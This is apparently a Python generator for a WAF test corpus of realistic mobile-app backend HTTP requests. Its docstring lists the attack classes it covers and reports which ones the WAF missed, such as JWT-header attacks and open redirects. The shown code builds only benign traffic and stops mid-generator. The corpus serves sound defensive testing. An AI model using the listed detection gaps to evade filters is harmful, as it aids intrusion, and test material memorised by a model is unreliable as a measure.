#!/usr/bin/env python3
"""Held-out HTTP test corpus: backends of iOS and Android apps.

What it is
    A deterministic generator of realistic HTTP requests that mobile apps send
    to their backends, as they look on the wire behind a sidecar WAF:
    Retrofit/OkHttp, Dalvik, Alamofire/URLSession (CFNetwork), Flutter
    (dart:io, lower-case header names) and React Native clients with their
    X-App-Version / X-Device-Id / X-Platform headers and Bearer JWTs; login,
    OTP and refresh-token flows, Sign in with Apple / Google id_tokens, device
    registration with FCM and APNs push tokens, analytics and crash SDK
    uploads (Firebase measurement protobuf, Crashlytics-like stack traces with
    Java/Kotlin/Swift frames, Sentry envelopes, Amplitude / Mixpanel / Segment
    batches), remote config and feature flags, deep links and
    apple-app-site-association / assetlinks.json, in-app purchase receipt
    validation (base64 App Store receipts, Google Play purchase tokens), chat
    messages with emoji and attachments, location updates, ride-hailing and
    food-delivery order flows, HealthKit-style health sync, camera uploads
    (multipart JPEG/HEIC with EXIF, exact bytes), Apollo GraphQL (persisted
    queries with sha256 hashes), gRPC-web protobuf, MessagePack, CBOR and
    gzip-encoded bodies, app-store review replies from web admin consoles,
    profiles with bios in many languages, and feedback forms carrying device
    logs.

    * benign       ~450 ordinary requests (expect "pass"), plus ~50
                   "dev-content" requests (category "dev-content", still
                   "pass"): mobile developers posting Kotlin/Swift/SQL/shell/
                   Gradle/manifest snippets to a support desk or Q&A endpoint;
                   counted apart.
    * attacks      ~260 requests (expect "detect") with real attack payloads in
                   the domain's own injection points: SQLi in filter/sort/id
                   parameters and GraphQL variables, NoSQL operators in login
                   JSON, stored XSS in bios, chat messages and review replies
                   (rendered in web admin consoles), SSRF via avatar-URL,
                   webhook and link-preview fields, path traversal in
                   attachment / download ids, JWT tampering (alg none, kid
                   traversal / SQLi, jku / x5u to attacker URLs), Java and
                   YAML deserialization, XXE in SVG / plist / GPX uploads,
                   Log4Shell in device headers, SSTI in notification
                   templates, command injection in image-processing
                   parameters, CRLF and open redirects in deep-link
                   parameters, mass assignment, LDAP filters, PHP wrappers,
                   RFI, scanner enumeration and request smuggling.

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures generalisation
    rather than rule-fitting.

How to run
    python3 scripts/corpus-mobile.py attacks > rulesets/tests/data/mobile-attacks.jsonl
    python3 scripts/corpus-mobile.py benign  > rulesets/tests/data/mobile-benign.jsonl
    python3 scripts/corpus-mobile.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id", "set": "mobile", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}
or, for bodies that must keep exact non-UTF-8 bytes (protobuf, MessagePack,
CBOR, gzip, JPEG/HEIC multipart), {"id", "set", "category", "expect",
"raw_b64"} holding the whole raw request (request line, headers, body).
Ids are "mobile/<category>/<generator>-NNN"; ordinary benign requests are
under "mobile/benign/...", dev-content under "mobile/dev-content/...".

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.

First sight
-----------
(2026-12-06, binary /work/bin/pr-now, built-in rules, paranoia 1, threshold 5)
Run once, nothing tuned; the corpus was not changed after seeing the results.
Counts: 282 attacks (sqli 35, xss 32, rce 26, ssrf 24, lfi 22, generic 22,
java 18, ssti 18, nosql 16, scanner 14, protocol 12, xxe 10, crlf 10, php 9,
rfi 8, ldap 6), 507 benign (457 ordinary + 50 dev-content); 59 lines are
raw_b64 (45 benign: protobuf, gRPC-web, MessagePack, CBOR, gzip, JPEG/HEIC
multipart; 14 attacks: smuggling/framing, a Java serialized body, a JPEG
upload with a shell filename).  protocol/protocol-001..008 and -012 carry
conflicting or malformed framing on purpose; every other body's
Content-Length is its byte length.  Dev-content ids are numbered by one
counter across their generators.

  attacks blocked   259/282 = 91.8 %  (100 % in crlf, java, ldap, php, rce,
                    rfi, scanner, ssti, xss, xxe; sqli 33/35, nosql 15/16,
                    ssrf 21/24, lfi 19/22, protocol 10/12, generic 10/22).
                    Missed: every attack carried only inside a JWT header
                    (kid SQLi x2, kid traversal x3, jku/x5u x2, embedded jwk;
                    alg "none" was caught), all 6 off-site open redirects
                    (only the javascript: one caught), 5 of 7 mass-assignment
                    bodies (isAdmin/role/roles/is_staff; the __proto__ and
                    constructor.prototype ones caught), a $or/$ne filter
                    object, an SSRF to a *.svc.cluster.local host name,
                    HTTP/1.0 + Transfer-Encoding smuggling, h2c upgrade.
  benign blocked    20/457 = 4.4 % ordinary: sentry 9/15 (sqli-011 on a
                    "SELECT * FROM" span description + lfi-240 on op
                    "db.sql"; java-110 on a Java frame), firebase_measurement
                    5/8 (protocol-512 form-invalid + protocol-330 on protobuf
                    sent as x-www-form-urlencoded), crash 5/20 (java-110 on
                    java.util.concurrent frames, nosqli-130 on
                    "db.MessageDao_Impl.insert("), graphql 1/22 (nosqli-120
                    on the GraphQL variable list ", $text:").
                    Dev-content 29/50 = 58.0 % (sql 8/10, swift 6/10,
                    kotlin 5/10, shell 5/10, other 5/10).
"""

import base64
import gzip
import hashlib
import json
import random
import struct
import sys
import uuid
from urllib.parse import quote

SET = "mobile"

# ---------------------------------------------------------------------------
# plumbing
# ---------------------------------------------------------------------------


def js(o):
    return json.dumps(o, ensure_ascii=False, separators=(",", ":"))


def hexid(r, n=24):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def alnum(r, n, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(r.choice(alphabet) for _ in range(n))


def uid(r):
    return str(uuid.UUID(int=r.getrandbits(128), version=4))


def b64u(b):
    if isinstance(b, str):
        b = b.encode()
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def b64(b):
    if isinstance(b, str):
        b = b.encode()
    return base64.b64encode(b).decode()


def enc(v, safe="-_.~"):
    return quote(str(v), safe=safe)


def enc_params(params):
    if isinstance(params, dict):
        params = list(params.items())
    return "&".join("%s=%s" % (enc(k, "-_.~[]"), enc(v)) for k, v in params)


APPS = {
    "ride": dict(name="Ridely", bundle="com.ridely.passenger", host="api.ridely.app", ver="6.14.2", build="61402"),
    "food": dict(name="Snackr", bundle="io.snackr.app", host="api.snackr.io", ver="3.8.0", build="1207"),
    "fit": dict(name="PulseFit", bundle="com.pulsefit.app", host="sync.pulsefit.com", ver="2.31.1", build="4410"),
    "chat": dict(name="Chatterly", bundle="app.chatterly.messenger", host="api.chatterly.app", ver="9.2.0", build="90200"),
    "cam": dict(name="Shutterbox", bundle="co.shutterbox.camera", host="upload.shutterbox.co", ver="4.0.3", build="403017"),
    "shop": dict(name="Marketly", bundle="com.marketly.shop", host="api.marketly.com", ver="12.3.0", build="12030005"),
    "bank": dict(name="Coinpurse", bundle="eu.coinpurse.wallet", host="mobile-api.coinpurse.eu", ver="5.1.7", build="5170"),
}
HOST_APP = {a["host"]: a for a in APPS.values()}
DOMAIN_APP = {a["host"].split(".", 1)[1]: a for a in APPS.values()}

ANDROID = [("Pixel 8", "14", "AP1A.240405.002", "google"), ("SM-S918B", "14", "UP1A.231005.007", "samsung"),
           ("SM-A546B", "13", "TP1A.220624.014", "samsung"), ("Redmi Note 12", "13", "TKQ1.221114.001", "Xiaomi"),
           ("CPH2451", "13", "TP1A.220905.001", "OnePlus"), ("moto g54 5G", "14", "U1TDS34.94-12-7", "motorola"),
           ("Pixel 6a", "14", "UQ1A.240205.002", "google"), ("SM-G991B", "12", "SP1A.210812.016", "samsung")]
IOS = [("iPhone15,2", "17.4.1", "23.4.0", "1494.0.7"), ("iPhone16,1", "17.5", "23.5.0", "1496.0.7"),
       ("iPhone14,5", "16.7.8", "22.6.0", "1410.1"), ("iPhone13,2", "17.3.1", "23.3.0", "1492.0.1"),
       ("iPad13,18", "17.4", "23.4.0", "1494.0.7"), ("iPhone12,8", "16.6", "22.6.0", "1410.0.3")]
LANGS = ["en-US", "en-GB", "de-DE", "fr-FR", "es-ES", "pt-BR", "ja-JP", "ko-KR", "zh-Hans-CN", "ar-EG", "tr-TR", "pl-PL",
         "hi-IN", "ru-RU", "it-IT", "nl-NL", "sv-SE", "id-ID", "vi-VN", "th-TH", "uk-UA", "he-IL"]
KINDS = ["android", "android", "dalvik", "ios", "ios", "ios-cf", "flutter", "rn-android", "rn-ios"]


def jwt(r, app=None, alg="RS256", claims=None, header=None, sig=True):
    app = app or APPS["ride"]
    h = header or {"alg": alg, "kid": hexid(r, 16), "typ": "JWT"}
    now = 1733400000 + r.randint(0, 3000000)
    p = {"sub": uid(r), "iss": "https://auth." + app["host"].split(".", 1)[1], "aud": app["bundle"],
         "iat": now, "exp": now + 3600, "scope": "openid profile offline_access", "sid": hexid(r, 20)}
    if claims:
        p.update(claims)
    s = b64u(bytes(r.getrandbits(8) for _ in range(256 if alg.startswith("RS") else 32))) if sig else ""
    return "%s.%s.%s" % (b64u(js(h)), b64u(js(p)), s)


def device_id(r, kind):
    if kind.startswith("android") or kind in ("dalvik", "rn-android"):
        return hexid(r, 16)
    return uid(r).upper()


def client_headers(r, kind, app, auth, ctype, lang):
    """Headers as the given client stack sends them, without Host/Content-Length."""
    ver, build = app["ver"], app["build"]
    is_android = kind in ("android", "dalvik", "rn-android") or (kind == "flutter" and r.random() < 0.5)
    if is_android:
        dev = r.choice(ANDROID)
    else:
        dev = r.choice(IOS)
    h = []
    if kind == "android":
        ua = "%s/%s (%s; build:%s; Android %s; %s) okhttp/4.12.0" % (app["name"], ver, app["bundle"], build, dev[1], dev[0])
        if auth:
            h.append(["Authorization", auth])
        h += [["X-App-Version", ver], ["X-App-Build", build], ["X-Platform", "android"], ["X-Device-Id", device_id(r, kind)],
              ["X-Device-Model", "%s %s" % (dev[3], dev[0])], ["X-OS-Version", dev[1]], ["Accept-Language", lang],
              ["Accept", "application/json"]]
        if ctype:
            h.append(["Content-Type", ctype])
        h += [["Connection", "Keep-Alive"], ["Accept-Encoding", "gzip"], ["User-Agent", ua]]
    elif kind == "dalvik":
        ua = "Dalvik/2.1.0 (Linux; U; Android %s; %s Build/%s)" % (dev[1], dev[0], dev[2])
        if ctype:
            h.append(["Content-Type", ctype])
        h += [["User-Agent", ua], ["Connection", "Keep-Alive"], ["Accept-Encoding", "gzip"]]
        if auth:
            h.append(["Authorization", auth])
        h += [["X-Client", "%s-android/%s" % (app["name"].lower(), ver)], ["X-Device-Id", device_id(r, kind)], ["Accept-Language", lang]]
    elif kind in ("ios", "ios-cf"):
        if kind == "ios":
            ua = "%s/%s (%s; build:%s; iOS %s) Alamofire/5.9.1" % (app["name"], ver, app["bundle"], build, dev[1])
        else:
            ua = "%s/%s CFNetwork/%s Darwin/%s" % (app["name"], build, dev[3], dev[2])
        if ctype:
            h.append(["Content-Type", ctype])
        h.append(["Accept", "application/json" if kind == "ios" else "*/*"])
        if auth:
            h.append(["Authorization", auth])
        lang2 = lang + (",%s;q=0.9" % lang.split("-")[0] if "-" in lang else "")
        h += [["X-App-Version", ver], ["X-Platform", "ios"], ["X-Device-Id", device_id(r, kind)], ["X-Device-Model", dev[0]],
              ["Accept-Language", lang2], ["Accept-Encoding", "gzip, deflate, br"], ["User-Agent", ua], ["Connection", "keep-alive"]]
    elif kind == "flutter":
        h.append(["user-agent", "Dart/3.%d (dart:io)" % r.choice([2, 3, 4])])
        if ctype:
            h.append(["content-type", ctype + ("; charset=utf-8" if ctype == "application/json" else "")])
        h += [["accept-encoding", "gzip"], ["x-app-version", "%s+%s" % (ver, build)], ["x-platform", "android" if is_android else "ios"],
              ["x-device-id", device_id(r, "android" if is_android else "ios")], ["accept-language", lang.split("-")[0]]]
        if auth:
            h.append(["authorization", auth])
    else:  # react native
        if kind == "rn-android":
            ua = "okhttp/4.9.2"
        else:
            ua = "%s/%s CFNetwork/%s Darwin/%s" % (app["name"], build, dev[3], dev[2])
        h.append(["Accept", "application/json, text/plain, */*"])
        if ctype:
            h.append(["Content-Type", ctype])
        if auth:
            h.append(["Authorization", auth])
        h += [["X-App-Version", ver], ["X-Platform", "android" if kind == "rn-android" else "ios"],
              ["X-Device-Id", device_id(r, kind)], ["Accept-Language", lang], ["User-Agent", ua]]
        if kind == "rn-android":
            h += [["Connection", "Keep-Alive"], ["Accept-Encoding", "gzip"]]
        else:
            h += [["Accept-Encoding", "gzip, deflate, br"], ["Connection", "keep-alive"]]
    return h


CHROME = ["Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
          "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
          "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0"]


def browser_headers(r, auth, ctype, host):
    h = [["User-Agent", r.choice(CHROME)], ["Accept", "application/json, text/plain, */*"],
         ["Accept-Language", r.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "en-GB,en;q=0.7"])],
         ["Accept-Encoding", "gzip, deflate, br"], ["Origin", "https://console." + host.split(".", 1)[1]],
         ["Referer", "https://console.%s/" % host.split(".", 1)[1]]]
    if ctype:
        h.append(["Content-Type", ctype])
    if auth:
        h.append(["Authorization", auth])
    h += [["Sec-Fetch-Site", "same-site"], ["Sec-Fetch-Mode", "cors"], ["Sec-Fetch-Dest", "empty"]]
    return h


def apply_extra(h, extra):
    """extra: [(name, value)]; replaces a header of that name (case-insensitive),
    appends it otherwise; a name starting with '+' is always appended; value None removes."""
    for name, value in extra or []:
        if name.startswith("+"):
            h.append([name[1:], value])
            continue
        idx = [i for i, (n, _) in enumerate(h) if n.lower() == name.lower()]
        if value is None:
            for i in reversed(idx):
                del h[i]
        elif idx:
            h[idx[0]][1] = value
        else:
            h.append([name, value])
    return h


def mk(rid, cat, expect, a, r):
    """a: dict(method, host, path, params?, raw_query?, body? (str|bytes|dict|list), ctype?, extra?, client?,
    auth? (True|False|str), lang?, cl? (False: no automatic Content-Length), version?)."""
    if "raw" in a:
        return {"id": rid, "set": SET, "category": cat, "expect": expect, "raw_b64": b64(a["raw"])}
    method, host, path = a["method"], a["host"], a["path"]
    uri = path
    q = []
    if a.get("params"):
        q.append(enc_params(a["params"]))
    if a.get("raw_query"):
        q.append(a["raw_query"])
    if q:
        uri += ("&" if "?" in path else "?") + "&".join(q)
    body = a.get("body")
    ctype = a.get("ctype")
    if isinstance(body, (dict, list)):
        body = js(body)
        ctype = ctype or "application/json"
    app = a.get("app") or HOST_APP.get(host) or DOMAIN_APP.get(host.split(".", 1)[-1]) or APPS["ride"]
    auth = a.get("auth", True)
    if auth is True:
        auth = "Bearer " + jwt(r, app)
    kind = a.get("client") or r.choice(KINDS)
    lang = a.get("lang") or r.choice(LANGS)
    if kind == "browser":
        h = browser_headers(r, auth, ctype, host)
    elif kind == "bare":
        h = []
        if ctype:
            h.append(["Content-Type", ctype])
        if auth:
            h.append(["Authorization", auth])
    else:
        h = client_headers(r, kind, app, auth, ctype, lang)
    lower = kind == "flutter"
    h.insert(0, ["host" if lower else "Host", host])
    if body is not None and a.get("cl", True):
        n = len(body) if isinstance(body, bytes) else len(body.encode("utf-8"))
        h.append(["content-length" if lower else "Content-Length", str(n)])
    apply_extra(h, a.get("extra"))
    version = a.get("version", "HTTP/1.1")
    if isinstance(body, bytes):
        raw = ("%s %s %s\r\n" % (method, uri, version)).encode() + b"".join(
            ("%s: %s\r\n" % (n, v)).encode("utf-8") for n, v in h) + b"\r\n" + body
        return {"id": rid, "set": SET, "category": cat, "expect": expect, "raw_b64": b64(raw)}
    d = {"id": rid, "set": SET, "category": cat, "expect": expect, "method": method, "uri": uri, "version": version, "headers": h}
    if body is not None:
        d["body"] = body
    return d


def multipart(parts, boundary):
    """parts: [(name, filename|None, ctype|None, str|bytes)] -> (body, content-type); bytes if any part is bytes."""
    chunks = []
    for name, fn, ct, content in parts:
        head = "--%s\r\nContent-Disposition: form-data; name=\"%s\"" % (boundary, name)
        if fn is not None:
            head += "; filename=\"%s\"" % fn
        head += "\r\n"
        if ct:
            head += "Content-Type: %s\r\n" % ct
        head += "\r\n"
        chunks.append(head.encode("utf-8"))
        chunks.append(content if isinstance(content, bytes) else content.encode("utf-8"))
        chunks.append(b"\r\n")
    chunks.append(("--%s--\r\n" % boundary).encode())
    body = b"".join(chunks)
    if not any(isinstance(p[3], bytes) for p in parts):
        body = body.decode("utf-8")
    return body, "multipart/form-data; boundary=" + boundary


def boundary_for(r, kind):
    if kind in ("ios", "ios-cf"):
        return "alamofire.boundary.%08x%08x" % (r.getrandbits(32), r.getrandbits(32))
    if kind == "flutter":
        return "dart-http-boundary-" + alnum(r, 50, "abcdefghijklmnopqrstuvwxyz0123456789+_")
    if kind == "rn-ios":
        return "----WebKitFormBoundary" + alnum(r, 16)
    return uid(r)


# --- binary encoders (protobuf, gRPC-web, MessagePack, CBOR, JPEG) ---------

def pb_varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb(fields):
    """fields: [(no, value)]: int -> varint, float -> double, str/bytes -> bytes, list -> nested message."""
    out = bytearray()
    for no, v in fields:
        if isinstance(v, bool) or isinstance(v, int):
            out += pb_varint(no << 3) + pb_varint(int(v) & 0xFFFFFFFFFFFFFFFF)
        elif isinstance(v, float):
            out += pb_varint((no << 3) | 1) + struct.pack("<d", v)
        else:
            if isinstance(v, list):
                v = pb(v)
            elif isinstance(v, str):
                v = v.encode("utf-8")
            out += pb_varint((no << 3) | 2) + pb_varint(len(v)) + v
    return bytes(out)


def grpc_frame(msg):
    return b"\x00" + struct.pack(">I", len(msg)) + msg


def msgpack(o):
    if o is None:
        return b"\xc0"
    if o is True:
        return b"\xc3"
    if o is False:
        return b"\xc2"
    if isinstance(o, int):
        if 0 <= o < 128:
            return bytes([o])
        if -32 <= o < 0:
            return struct.pack("b", o)
        if 0 <= o < 2 ** 32:
            return b"\xce" + struct.pack(">I", o)
        return b"\xd3" + struct.pack(">q", o)
    if isinstance(o, float):
        return b"\xcb" + struct.pack(">d", o)
    if isinstance(o, str):
        b = o.encode("utf-8")
        if len(b) < 32:
            return bytes([0xA0 | len(b)]) + b
        if len(b) < 256:
            return b"\xd9" + bytes([len(b)]) + b
        return b"\xda" + struct.pack(">H", len(b)) + b
    if isinstance(o, list):
        head = bytes([0x90 | len(o)]) if len(o) < 16 else b"\xdc" + struct.pack(">H", len(o))
        return head + b"".join(msgpack(x) for x in o)
    if isinstance(o, dict):
        head = bytes([0x80 | len(o)]) if len(o) < 16 else b"\xde" + struct.pack(">H", len(o))
        return head + b"".join(msgpack(k) + msgpack(v) for k, v in o.items())
    raise TypeError(o)


def cbor(o):
    def head(major, n):
        if n < 24:
            return bytes([(major << 5) | n])
        if n < 256:
            return bytes([(major << 5) | 24, n])
        if n < 65536:
            return bytes([(major << 5) | 25]) + struct.pack(">H", n)
        if n < 2 ** 32:
            return bytes([(major << 5) | 26]) + struct.pack(">I", n)
        return bytes([(major << 5) | 27]) + struct.pack(">Q", n)
    if o is None:
        return b"\xf6"
    if o is True:
        return b"\xf5"
    if o is False:
        return b"\xf4"
    if isinstance(o, int):
        return head(0, o) if o >= 0 else head(1, -1 - o)
    if isinstance(o, float):
        return b"\xfb" + struct.pack(">d", o)
    if isinstance(o, bytes):
        return head(2, len(o)) + o
    if isinstance(o, str):
        b = o.encode("utf-8")
        return head(3, len(b)) + b
    if isinstance(o, list):
        return head(4, len(o)) + b"".join(cbor(x) for x in o)
    if isinstance(o, dict):
        return head(5, len(o)) + b"".join(cbor(k) + cbor(v) for k, v in o.items())
    raise TypeError(o)


def gz(s):
    return gzip.compress(s.encode("utf-8") if isinstance(s, str) else s, mtime=0)


def fake_jpeg(r, make="Apple", model="iPhone 15 Pro", lat=None, lon=None, size=600):
    """A small JPEG-shaped blob: SOI, APP1 Exif (TIFF header + Make/Model/DateTime + GPS), DQT, noise, EOI."""
    def ifd_ascii(tag, s, off):
        b = s.encode() + b"\x00"
        return struct.pack(">HHII", tag, 2, len(b), off), b
    date = "2024:%02d:%02d %02d:%02d:%02d" % (r.randint(1, 12), r.randint(1, 28), r.randint(0, 23), r.randint(0, 59), r.randint(0, 59))
    entries, data = [], b""
    base = 8 + 2 + 12 * 4 + 4
    for tag, s in ((0x010F, make), (0x0110, model), (0x0131, "17.4.1"), (0x0132, date)):
        e, b = ifd_ascii(tag, s, base + len(data))
        entries.append(e)
        data += b
    tiff = b"MM\x00\x2a\x00\x00\x00\x08" + struct.pack(">H", 4) + b"".join(entries) + b"\x00\x00\x00\x00" + data
    if lat is not None:
        tiff += ("GPS %.5f,%.5f" % (lat, lon)).encode()
    app1 = b"Exif\x00\x00" + tiff
    out = b"\xff\xd8\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1
    out += b"\xff\xdb\x00\x43\x00" + bytes(r.getrandbits(8) | 1 for _ in range(64))
    out += b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00" + bytes(r.getrandbits(8) for _ in range(size)).replace(b"\xff", b"\xfe")
    return out + b"\xff\xd9"


def fake_heic(r, size=500):
    ftyp = b"ftypheic\x00\x00\x00\x00mif1heicmiaf"
    out = struct.pack(">I", len(ftyp) + 4) + ftyp
    meta = b"meta\x00\x00\x00\x00" + b"\x00\x00\x00\x21hdlr\x00\x00\x00\x00\x00\x00\x00\x00pict" + b"\x00" * 13
    out += struct.pack(">I", len(meta) + 4) + meta
    mdat = b"mdat" + bytes(r.getrandbits(8) for _ in range(size))
    return out + struct.pack(">I", len(mdat) + 4) + mdat


# ---------------------------------------------------------------------------
# registries: generators append themselves
# ---------------------------------------------------------------------------

BENIGN = []    # (name, count, fn(r) -> request dict)
ATTACKS = []   # (name, fn(r) -> [request dict with "cat"])
DEV = []       # (name, fn(r) -> [request dict])


def benign_gen(n):
    def deco(fn):
        BENIGN.append((fn.__name__[2:], n, fn))
        return fn
    return deco


def attack_gen(fn):
    ATTACKS.append((fn.__name__[2:], fn))
    return fn


def dev_gen(fn):
    DEV.append((fn.__name__[2:], fn))
    return fn


def pick_app(r, *keys):
    return APPS[r.choice(keys)] if keys else APPS[r.choice(list(APPS))]


# ---------------------------------------------------------------------------
# benign: shared pools
# ---------------------------------------------------------------------------

FIRST = ["Anna", "Lukas", "Sofía", "Mateo", "Yuki", "Min-jun", "Aarav", "Fatima", "Olivia", "Noah", "Zoë", "Chloé", "Björn",
         "Mehmet", "Ngozi", "Priya", "Wei", "Łukasz", "Ana-María", "Siobhán", "D'Andre", "Renée", "Omar", "Ingrid", "Thảo"]
LAST = ["Müller", "García", "Tanaka", "Kim", "Sharma", "Okafor", "O'Brien", "Nguyễn", "Kowalski", "Yılmaz", "Smith", "Dubois",
        "Rossi", "Andersson", "Silva", "Chen", "Levi", "Haddad", "van der Berg", "Fernández-López"]
DOMAINS = ["gmail.com", "icloud.com", "outlook.com", "yahoo.co.jp", "gmx.de", "proton.me", "hotmail.fr", "privaterelay.appleid.com"]


def person(r):
    f, l = r.choice(FIRST), r.choice(LAST)
    local = "".join(c for c in (f + "." + l).lower() if c.isascii() and (c.isalnum() or c == ".")) or "user"
    return f, l, "%s%d@%s" % (local, r.randint(1, 99), r.choice(DOMAINS))


def fcm_token(r):
    return alnum(r, 22, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_") + ":APA91b" + \
        alnum(r, 134, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_")


def apns_token(r):
    return hexid(r, 64)


def ts_iso(r):
    return "2024-%02d-%02dT%02d:%02d:%02d.%03dZ" % (r.randint(1, 12), r.randint(1, 28), r.randint(0, 23), r.randint(0, 59),
                                                  r.randint(0, 59), r.randint(0, 999))


def ts_ms(r):
    return 1717000000000 + r.randint(0, 15000000000)


# ---------------------------------------------------------------------------
# benign: auth, tokens, devices
# ---------------------------------------------------------------------------

PASSWORDS = ["Summer2024!", "p@ss w0rd with spaces", "Tr0ub4dor&3", "correct horse battery staple", "ü6#Kx!9q$Zm", "<3MyCat<3",
             "1' or so I thought", "R0ck'n'R0ll!", "x=y+z;42", "--secret--", "!QAZ2wsx#EDC", "パスワード2024"]


@benign_gen(20)
def b_login(r):
    app = pick_app(r)
    f, l, email = person(r)
    k = r.randint(0, 3)
    if k == 0:
        body = {"email": email, "password": r.choice(PASSWORDS), "device": {"id": hexid(r, 16), "name": "%s's iPhone" % f}}
        return dict(method="POST", host=app["host"], path="/v1/auth/login", body=body, auth=False)
    if k == 1:
        body = {"phone": "+%d%d" % (r.choice([1, 44, 49, 33, 91, 81, 234, 55]), r.randint(100000000, 999999999)), "channel": r.choice(["sms", "whatsapp"]),
                "locale": r.choice(LANGS)}
        return dict(method="POST", host=app["host"], path="/v2/auth/otp/request", body=body, auth=False)
    if k == 2:
        body = {"otp": "%06d" % r.randint(0, 999999), "request_id": uid(r), "device_id": hexid(r, 16)}
        return dict(method="POST", host=app["host"], path="/v2/auth/otp/verify", body=body, auth=False)
    body = "username=%s&password=%s&grant_type=password&client_id=%s" % (enc(email), enc(r.choice(PASSWORDS)), app["bundle"])
    return dict(method="POST", host="auth." + app["host"].split(".", 1)[1], path="/oauth/token", body=body,
                ctype="application/x-www-form-urlencoded", auth=False, client=r.choice(["android", "dalvik", "rn-android"]))


@benign_gen(15)
def b_refresh(r):
    app = pick_app(r)
    rt = alnum(r, 64) if r.random() < 0.5 else jwt(r, app, alg="HS256")
    if r.random() < 0.5:
        body = "grant_type=refresh_token&refresh_token=%s&client_id=%s" % (enc(rt), app["bundle"])
        return dict(method="POST", host="auth." + app["host"].split(".", 1)[1], path="/oauth/token", body=body,
                    ctype="application/x-www-form-urlencoded", auth=False)
    return dict(method="POST", host=app["host"], path=r.choice(["/v1/auth/refresh", "/api/token/refresh", "/v2/session/refresh"]),
                body={"refreshToken": rt, "deviceId": uid(r)}, auth=False)


@benign_gen(8)
def b_social_login(r):
    app = pick_app(r)
    if r.random() < 0.5:
        tok = jwt(r, app, claims={"iss": "https://appleid.apple.com", "aud": app["bundle"], "email": "%s@privaterelay.appleid.com" % alnum(r, 10).lower(),
                                  "email_verified": "true", "is_private_email": "true", "nonce_supported": True},
                  header={"kid": alnum(r, 10), "alg": "RS256"})
        body = {"provider": "apple", "identityToken": tok, "authorizationCode": "c" + hexid(r, 32) + ".0.mrvqr." + alnum(r, 22),
                "fullName": {"givenName": r.choice(FIRST), "familyName": r.choice(LAST)}, "nonce": hexid(r, 64)}
        client = r.choice(["ios", "ios-cf", "rn-ios"])
    else:
        tok = jwt(r, app, claims={"iss": "https://accounts.google.com", "azp": "%d-%s.apps.googleusercontent.com" % (r.randint(10 ** 11, 10 ** 12), alnum(r, 32).lower()),
                                  "email": person(r)[2], "email_verified": True, "picture": "https://lh3.googleusercontent.com/a/" + alnum(r, 40) + "=s96-c"})
        body = {"provider": "google", "idToken": tok, "serverAuthCode": "4/0A" + alnum(r, 60)}
        client = r.choice(["android", "flutter", "rn-android"])
    return dict(method="POST", host=app["host"], path="/v1/auth/social", body=body, auth=False, client=client)


@benign_gen(20)
def b_device_register(r):
    app = pick_app(r)
    k = r.randint(0, 3)
    if k == 0:
        body = {"token": fcm_token(r), "platform": "android", "appVersion": app["ver"], "locale": r.choice(LANGS).replace("-", "_"),
                "timezone": r.choice(["Europe/Berlin", "America/Sao_Paulo", "Asia/Tokyo", "Africa/Lagos", "America/New_York"]),
                "notificationsEnabled": r.random() < 0.8, "topics": r.sample(["promos", "order_updates", "chat", "news", "security"], 2)}
        return dict(method="POST", host=app["host"], path="/v1/devices", body=body, client=r.choice(["android", "rn-android", "flutter"]))
    if k == 1:
        body = {"apnsToken": apns_token(r), "environment": r.choice(["production", "sandbox"]), "bundleId": app["bundle"],
                "voipToken": apns_token(r) if r.random() < 0.3 else None, "osVersion": r.choice(IOS)[1], "model": r.choice(IOS)[0]}
        return dict(method="PUT", host=app["host"], path="/v1/devices/" + uid(r).upper(), body=body, client=r.choice(["ios", "ios-cf"]))
    if k == 2:
        return dict(method="DELETE", host=app["host"], path="/v1/devices/%s/push-token" % hexid(r, 16))
    body = {"installationId": uid(r), "adid": uid(r) if r.random() < 0.5 else "00000000-0000-0000-0000-000000000000",
            "attStatus": r.choice(["authorized", "denied", "notDetermined"]), "referrer": "utm_source=google-play&utm_medium=organic"}
    return dict(method="POST", host=app["host"], path="/v1/installs", body=body)


# ---------------------------------------------------------------------------
# benign: analytics and crash SDKs
# ---------------------------------------------------------------------------

EVENTS = ["screen_view", "app_open", "button_tap", "add_to_cart", "checkout_started", "purchase", "ride_requested", "search",
          "share", "notification_open", "onboarding_step", "paywall_viewed", "session_start", "login", "sign_up"]
SCREENS = ["HomeFragment", "CheckoutActivity", "RideMapViewController", "ProfileScreen", "SettingsView", "ChatThreadViewController",
           "OrderTrackingScreen", "PaywallSheet"]


def event_props(r):
    p = {"screen": r.choice(SCREENS), "source": r.choice(["push", "deeplink", "organic", "widget"])}
    if r.random() < 0.5:
        p["query"] = r.choice(["pizza near me", "sushi & ramen", "airport T2", "café au lait", "running shoes size 44", "кофе", "ラーメン"])
    if r.random() < 0.4:
        p["value"] = round(r.uniform(1, 120), 2)
        p["currency"] = r.choice(["USD", "EUR", "BRL", "JPY", "NGN"])
    return p


@benign_gen(15)
def b_amplitude(r):
    app = pick_app(r)
    dev, uidv = uid(r), "u_" + hexid(r, 12)
    evs = []
    for i in range(r.randint(3, 25)):
